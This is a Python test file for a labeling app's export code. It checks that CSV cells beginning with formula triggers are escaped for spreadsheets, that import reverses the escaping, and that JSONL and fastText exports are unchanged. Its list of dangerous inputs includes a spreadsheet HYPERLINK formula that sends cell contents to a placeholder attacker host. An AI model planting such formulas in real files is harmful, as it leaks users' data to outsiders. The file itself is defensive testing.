"""CSV exports are safe to open in a spreadsheet; the import undoes it; JSONL and fastText stay exact."""

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labeling.importing.parser import TRIGGERS, cell_escape, cell_unescape
from labeling.selectors.export import export_lines
from labeling.services.imports import import_preview
from tests.factories import ContentFactory, ExampleFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "'=already quoted",
    "'plain apostrophe",
    "=1+1 in the middle of = nothing",
]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_unescape_undoes_escape(value):
    escaped = cell_escape(value)
    assert cell_unescape(escaped) == value
    assert not escaped.startswith(TRIGGERS)


@pytest.mark.django_db
def test_csv_cells_are_neutralised_and_a_round_trip_changes_nothing():
    first = ExampleFactory(content=ContentFactory(title=DANGEROUS[0], body="=2*3"))
    dataset, category = first.dataset, first.category
    for number, title in enumerate(DANGEROUS[1:]):
        ExampleFactory(
            dataset=dataset, category=category, content=ContentFactory(title=title, body=f"-{number} body")
        )
    exported = "".join(export_lines(dataset=dataset, fmt="csv"))
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert "'" + DANGEROUS[0] in cells and "''=already quoted" in cells and "''plain apostrophe" in cells
    preview = import_preview(dataset=dataset, data=exported.encode())
    assert (preview.unchanged, preview.new, preview.changed, preview.errors) == (len(DANGEROUS), 0, 0, 0)

    records = [json.loads(line) for line in export_lines(dataset=dataset, fmt="jsonl")]
    assert sorted(r["title"] for r in records) == sorted(DANGEROUS)
    fasttext = "".join(export_lines(dataset=dataset, fmt="fasttext"))
    assert f" {DANGEROUS[0]} =2*3\n" in fasttext
